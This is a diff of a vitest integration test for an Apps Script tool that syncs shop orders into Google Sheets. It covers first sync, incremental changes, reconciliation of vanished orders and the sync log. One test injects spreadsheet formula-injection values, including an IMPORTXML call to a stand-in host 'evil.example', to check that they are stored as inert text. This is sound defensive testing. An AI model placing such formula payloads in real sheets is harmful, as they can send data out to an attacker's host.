@@ -12,12 +12,13 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startStack, type Stack } from '../../dev/harness/index';
 import type { ExecutionResult } from '../../dev/gas-runtime/index';
 import type { SheetModel } from '../../dev/gas-runtime/spreadsheet/sheet-model';
-import { compareWithTruth, sheetTable, syncUntilCaughtUp } from './sync-support';
+import { compareWithTruth, SCHEDULED_RUNS, sheetTable, syncUntilCaughtUp, type ScheduledRuns } from './sync-support';
 
 type Json = Record<string, unknown>;
 const HOUR_MS = 3_600_000;
 
 let stack: Stack;
+let mode: ScheduledRuns = 'direct';
 
 async function truthOrders(): Promise<Json[]> {
   return ((await stack.truth('orders')) as { data: Json[] }).data;
@@ -32,101 +33,106 @@ async function tryControl(path: string, body: unknown): Promise<void> {
   }
 }
 
-beforeAll(async () => {
-  stack = await startStack({ orders: 400, seed: 11 });
-  await stack.connect();
-});
-
-afterAll(async () => {
-  await stack?.close();
-});
-
-describe('first sync', () => {
-  it('fills every managed sheet equal to the truth', async () => {
-    await syncUntilCaughtUp(stack);
-    const result = await compareWithTruth(stack);
-    expect(result.mismatches.slice(0, 5)).toEqual([]);
-    expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
-    const headers = sheetTable(stack, 'Orders')[0];
-    expect(headers).toEqual(expect.arrayContaining(['id', 'net_profit', 'utm_source', 'status', 'placed_date', 'synced_at']));
+// Scheduled runs called with the document, and fired by their trigger without it (issue 8); the
+// reconciliation pass runs from the menu (with the document) in both.
+describe.each(SCHEDULED_RUNS)('scheduled runs: %s', (runs) => {
+  beforeAll(async () => {
+    mode = runs;
+    stack = await startStack({ orders: 400, seed: 11 });
+    await stack.connect();
   });
-});
 
-describe('incremental sync after every change kind, with late writers back-dating 240 s', () => {
-  it('brings all sheets back to the truth, keeping a column the user added', async () => {
-    const orders = await truthOrders();
-    // A user's own column to the right of the managed ones, on the first order's row.
-    const sheet = stack.runtime.workbook.sheetByName('Orders') as SheetModel;
-    const userColumn = sheetTable(stack, 'Orders')[0].length + 2;
-    sheet.write(2, userColumn, { value: 'my note' });
-    const firstId = sheetTable(stack, 'Orders')[1][0];
+  afterAll(async () => {
+    await stack?.close();
+  });
 
-    await stack.control('late-writers', { max_backdate_seconds: 240 });
-    const kinds = ['cost_correction', 'late_fulfillment', 'ad_spend', 'attribution', 'refund', 'partial_refund', 'cancel'];
-    let i = 0;
-    for (const kind of kinds) {
-      for (let n = 0; n < 3; n++) await tryControl(`orders/${String(orders[(i++ * 37) % orders.length].id)}/change`, { kind });
-    }
-    const hostile = orders[5];
-    const lines = hostile.line_items as Json[];
-    await stack.control(`orders/${String(hostile.id)}/patch`, {
-      attribution: { utm_campaign: '=IMPORTXML("http://evil.example","//a")', utm_source: null },
-      order_number: '+1-555',
-      customer_ref: '@SUM(A1)',
-      line_items: [{ id: lines[0].id, name: 'N'.repeat(60_000) }],
+  describe('first sync', () => {
+    it('fills every managed sheet equal to the truth', async () => {
+      await syncUntilCaughtUp(stack, 20, 'onScheduledSync', mode);
+      const result = await compareWithTruth(stack);
+      expect(result.mismatches.slice(0, 5)).toEqual([]);
+      expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
+      const headers = sheetTable(stack, 'Orders')[0];
+      expect(headers).toEqual(expect.arrayContaining(['id', 'net_profit', 'utm_source', 'status', 'placed_date', 'synced_at']));
     });
-    await stack.control('orders', { count: 30 });
-    const products = ((await stack.truth('products')) as { data: Json[] }).data;
-    for (const [k, kind] of ['cost_correction', 'price', 'new_variant'].entries()) {
-      await stack.control(`products/${String(products[k * 7].id)}/change`, { kind });
-    }
-    await stack.advanceClocks(HOUR_MS);
-    await syncUntilCaughtUp(stack);
-
-    const result = await compareWithTruth(stack);
-    expect(result.mismatches.slice(0, 5)).toEqual([]);
-    expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
-    // The formula-looking text is a string in the sheet, not a formula.
-    expect(stack.runtime.exportJson().formulas.Orders ?? []).toEqual([]);
-    const rows = sheetTable(stack, 'Orders');
-    expect(rows[1][0]).toBe(firstId);
-    expect(rows[1][userColumn - 1]).toBe('my note');
-  });
-});
-
-describe('vanished orders and reconciliation', () => {
-  it('marks orders the service no longer returns as gone, with the date; nothing is deleted', async () => {
-    const orders = await truthOrders();
-    const vanished = [orders[3], orders[50], orders[120]].map((o) => String(o.id));
-    for (const id of vanished) await stack.control(`orders/${id}/vanish`, {});
-    const rowsBefore = sheetTable(stack, 'Orders').length;
-
-    let done = false;
-    for (let n = 0; n < 10 && !done; n++) {
-      const r = await stack.runtime.run('reconcileOrdersNow', []);
-      expect(r.ok || r.timedOut).toBe(true);
-      done = Boolean((r.value as { done?: boolean } | undefined)?.done);
-    }
-    expect(done).toBe(true);
-
-    const result = await compareWithTruth(stack, { expectGone: new Set(vanished) });
-    expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
-    const table = sheetTable(stack, 'Orders');
-    expect(table.length).toBe(rowsBefore);
-    const [headers, ...rows] = table;
-    const goneRows = rows.filter((r) => r[headers.indexOf('status')] === 'gone');
-    expect(goneRows.map((r) => r[0]).sort()).toEqual([...vanished].sort());
-    for (const r of goneRows) expect(String(r[headers.indexOf('gone_at')])).toMatch(/^\d{4}-\d{2}-\d{2}T/);
   });
 
-  it('keeps one Sync log row per run with its counts', () => {
-    const [headers, ...rows] = sheetTable(stack, 'Sync log');
-    expect(headers).toEqual(['started_at', 'ended_at', 'job', 'orders_added', 'orders_updated', 'orders_cancelled', 'orders_gone', 'line_items', 'products', 'variants', 'pnl_days', 'pages', 'requests', 'rate_limit_waits', 'outcome', 'message']);
-    expect(rows.length).toBeGreaterThanOrEqual(3);
-    const last = rows[rows.length - 1];
-    expect(String(last[headers.indexOf('job')])).toContain('reconcile');
-    expect(last[headers.indexOf('orders_gone')]).toBe(3);
-    expect(rows.every((r) => r[headers.indexOf('outcome')] !== 'running')).toBe(true);
+  describe('incremental sync after every change kind, with late writers back-dating 240 s', () => {
+    it('brings all sheets back to the truth, keeping a column the user added', async () => {
+      const orders = await truthOrders();
+      // A user's own column to the right of the managed ones, on the first order's row.
+      const sheet = stack.runtime.workbook.sheetByName('Orders') as SheetModel;
+      const userColumn = sheetTable(stack, 'Orders')[0].length + 2;
+      sheet.write(2, userColumn, { value: 'my note' });
+      const firstId = sheetTable(stack, 'Orders')[1][0];
+
+      await stack.control('late-writers', { max_backdate_seconds: 240 });
+      const kinds = ['cost_correction', 'late_fulfillment', 'ad_spend', 'attribution', 'refund', 'partial_refund', 'cancel'];
+      let i = 0;
+      for (const kind of kinds) {
+        for (let n = 0; n < 3; n++) await tryControl(`orders/${String(orders[(i++ * 37) % orders.length].id)}/change`, { kind });
+      }
+      const hostile = orders[5];
+      const lines = hostile.line_items as Json[];
+      await stack.control(`orders/${String(hostile.id)}/patch`, {
+        attribution: { utm_campaign: '=IMPORTXML("http://evil.example","//a")', utm_source: null },
+        order_number: '+1-555',
+        customer_ref: '@SUM(A1)',
+        line_items: [{ id: lines[0].id, name: 'N'.repeat(60_000) }],
+      });
+      await stack.control('orders', { count: 30 });
+      const products = ((await stack.truth('products')) as { data: Json[] }).data;
+      for (const [k, kind] of ['cost_correction', 'price', 'new_variant'].entries()) {
+        await stack.control(`products/${String(products[k * 7].id)}/change`, { kind });
+      }
+      await stack.advanceClocks(HOUR_MS);
+      await syncUntilCaughtUp(stack, 20, 'onScheduledSync', mode);
+
+      const result = await compareWithTruth(stack);
+      expect(result.mismatches.slice(0, 5)).toEqual([]);
+      expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
+      // The formula-looking text is a string in the sheet, not a formula.
+      expect(stack.runtime.exportJson().formulas.Orders ?? []).toEqual([]);
+      const rows = sheetTable(stack, 'Orders');
+      expect(rows[1][0]).toBe(firstId);
+      expect(rows[1][userColumn - 1]).toBe('my note');
+    });
+  });
+
+  describe('vanished orders and reconciliation', () => {
+    it('marks orders the service no longer returns as gone, with the date; nothing is deleted', async () => {
+      const orders = await truthOrders();
+      const vanished = [orders[3], orders[50], orders[120]].map((o) => String(o.id));
+      for (const id of vanished) await stack.control(`orders/${id}/vanish`, {});
+      const rowsBefore = sheetTable(stack, 'Orders').length;
+
+      let done = false;
+      for (let n = 0; n < 10 && !done; n++) {
+        const r = await stack.runtime.run('reconcileOrdersNow', []);
+        expect(r.ok || r.timedOut).toBe(true);
+        done = Boolean((r.value as { done?: boolean } | undefined)?.done);
+      }
+      expect(done).toBe(true);
+
+      const result = await compareWithTruth(stack, { expectGone: new Set(vanished) });
+      expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
+      const table = sheetTable(stack, 'Orders');
+      expect(table.length).toBe(rowsBefore);
+      const [headers, ...rows] = table;
+      const goneRows = rows.filter((r) => r[headers.indexOf('status')] === 'gone');
+      expect(goneRows.map((r) => r[0]).sort()).toEqual([...vanished].sort());
+      for (const r of goneRows) expect(String(r[headers.indexOf('gone_at')])).toMatch(/^\d{4}-\d{2}-\d{2}T/);
+    });
+
+    it('keeps one Sync log row per run with its counts', () => {
+      const [headers, ...rows] = sheetTable(stack, 'Sync log');
+      expect(headers).toEqual(['started_at', 'ended_at', 'job', 'orders_added', 'orders_updated', 'orders_cancelled', 'orders_gone', 'line_items', 'products', 'variants', 'pnl_days', 'pages', 'requests', 'rate_limit_waits', 'outcome', 'message']);
+      expect(rows.length).toBeGreaterThanOrEqual(3);
+      const last = rows[rows.length - 1];
+      expect(String(last[headers.indexOf('job')])).toContain('reconcile');
+      expect(last[headers.indexOf('orders_gone')]).toBe(3);
+      expect(rows.every((r) => r[headers.indexOf('outcome')] !== 'running')).toBe(true);
+    });
   });
 });
 
@@ -223,7 +229,11 @@ describe('the exported workbook after a demo-sized sync', () => {
   it('formatting is done once, when a sheet is created; later runs make no formatting calls and the same few calls per page', () => {
     const calls = (r: ExecutionResult, method: string): number => r.counts.byMethod[method] ?? 0;
     expect(calls(first, 'Range.setFontWeight')).toBe(MANAGED.length);
-    expect(calls(first, 'Sheets.Spreadsheets.batchUpdate')).toBe(MANAGED.length);
+    // One per sheet set up, plus one per grid growth (rows appended and formatted in one atomic
+    // request, 1,000 rows at a time on sheets that start with 1,000).
+    const growths = MANAGED.reduce((n, name) => n + (((demo.runtime.workbook.sheetByName(name) as SheetModel).maxRows - 1000) / 1000), 0);
+    expect(growths).toBeGreaterThan(0);
+    expect(calls(first, 'Sheets.Spreadsheets.batchUpdate')).toBe(MANAGED.length + growths);
     for (const method of FORMATTING) expect(calls(next, method), method).toBe(0);
     // One Values.batchUpdate per page written, plus the Sync log rows (the scale test bounds the rest).
     const orderPages = first.counts.requests.filter((q) => /\/api\/v1\/orders\?/.test(q.url)).length;
